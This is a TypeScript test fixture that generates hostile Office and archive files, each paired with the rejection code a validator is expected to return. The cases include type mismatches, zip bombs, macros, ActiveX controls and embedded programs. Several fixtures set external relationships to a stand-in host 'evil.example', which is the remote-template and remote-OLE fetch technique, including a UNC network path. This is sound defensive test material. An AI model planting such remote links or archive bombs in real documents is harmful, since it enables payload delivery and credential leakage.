import { compound, office, officeParts, pdf, relationships, zipOf } from "./honest-files";
import { file, type HostileFile, program } from "./hostile-file";
import { rawZip } from "./raw-zip";

const relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const oleLink = `${relations}/oleObject`;
const template = `${relations}/attachedTemplate`;
const link = (type: string, target: string) =>
  `<?xml version="1.0"?><Relationships xmlns="${relationships}"><Relationship Id="rId9" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`;

/** Office documents that carry programs, reach outside or are no documents. */
export async function hostileOffice(): Promise<HostileFile[]> {
  const macroType = "application/vnd.ms-word.document.macroEnabled.main+xml";
  const docx = await office("docx");
  const xlsx = await office("xlsx");
  const cut = await zipOf({ "договор.pdf": pdf() });
  const withParts = (parts: Record<string, Buffer | string>, kind: "docx" | "xlsx" = "docx") =>
    office(kind, { parts });
  const withMacro = await withParts({ "word/vbaProject.bin": compound("VBA", "_VBA_PROJECT") });
  return [
    file(
      "an old Word file with a new name",
      "записка.docx",
      compound("WordDocument"),
      "type_mismatch",
    ),
    file("a spreadsheet called a text", "записка.docx", xlsx, "type_mismatch"),
    file("a text called a spreadsheet", "смета.xlsx", docx, "type_mismatch"),
    file("an archive called a text", "записка.docx", cut, "type_mismatch"),
    file(
      "a text with a password",
      "записка.docx",
      compound("EncryptionInfo", "EncryptedPackage"),
      "encrypted",
    ),
    file("a cut text", "записка.docx", docx.subarray(0, docx.length - 30), "archive_broken"),
    file(
      "a bomb in a text",
      "записка.docx",
      rawZip(
        Object.entries({
          ...officeParts("docx"),
          "word/media/image1.png": Buffer.alloc(60_000_000),
        }).map(([name, data]) => ({ name, data })),
      ),
      "archive_bomb",
    ),
    file(
      "an archive in a text",
      "записка.docx",
      await withParts({ "word/embeddings/a.bin": cut }),
      "archive_nested",
    ),
    file(
      "a program in a text",
      "записка.docx",
      await withParts({ "word/media/image1.png": program }),
      "archive_entry",
    ),
    file("macros", "записка.docx", withMacro, "macro"),
    file(
      "macros by the type of the document",
      "записка.docx",
      await office("docx", { mainType: macroType }),
      "macro",
    ),
    file(
      "macros by the type of a part",
      "смета.xlsx",
      await office("xlsx", {
        types:
          '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      }),
      "macro",
    ),
    file(
      "macros of Excel 4",
      "смета.xlsx",
      await office("xlsx", {
        types:
          "<Override PartName='/xl/macrosheets/sheet1.xml' ContentType='application/vnd.ms-excel.macrosheet+xml'/>",
      }),
      "macro",
    ),
    file(
      "macros in UTF-16",
      "смета.xlsx",
      await withParts(
        {
          "[Content_Types].xml": Buffer.from(
            `\ufeff${officeParts("xlsx", { mainType: "application/vnd.ms-excel.sheet.macroEnabled.main+xml" })["[Content_Types].xml"]}`,
            "utf16le",
          ),
        },
        "xlsx",
      ),
      "macro",
    ),
    file(
      "an ActiveX control",
      "записка.docx",
      await withParts({ "word/activeX/activeX1.xml": "<ocx/>" }),
      "macro",
    ),
    file(
      "an object from elsewhere",
      "записка.docx",
      await withParts({
        "word/_rels/document.xml.rels": link(oleLink, "http://evil.example/a.doc"),
      }),
      "macro",
    ),
    file(
      "a template from elsewhere",
      "записка.docx",
      await withParts({
        "word/_rels/settings.xml.rels": link(template, "https://evil.example/a.dotm"),
      }),
      "macro",
    ),
    file(
      "a template from a network folder",
      "записка.docx",
      await withParts({
        "word/_rels/settings.xml.rels": link(template, "file:///\\\\evil.example\\a.dotm"),
      }),
      "macro",
    ),
    file(
      "a packed program",
      "записка.docx",
      await withParts({ "word/embeddings/oleObject1.bin": compound("\u0001Ole10Native") }),
      "macro",
    ),
    file(
      "macros of an embedded old table",
      "записка.docx",
      await withParts({ "word/embeddings/a.xls": compound("_VBA_PROJECT_CUR") }),
      "macro",
    ),
    file(
      "macros in a table in a text",
      "записка.docx",
      await withParts({
        "word/embeddings/a.xlsx": await withParts({ "xl/vbaProject.bin": "x" }, "xlsx"),
      }),
      "macro",
    ),
    file("macros in an archive", "архив.zip", await zipOf({ "записка.docx": withMacro }), "macro"),
    file(
      "types with entities",
      "записка.docx",
      await withParts({ "[Content_Types].xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><Types/>" }),
      "archive_broken",
    ),
  ];
}
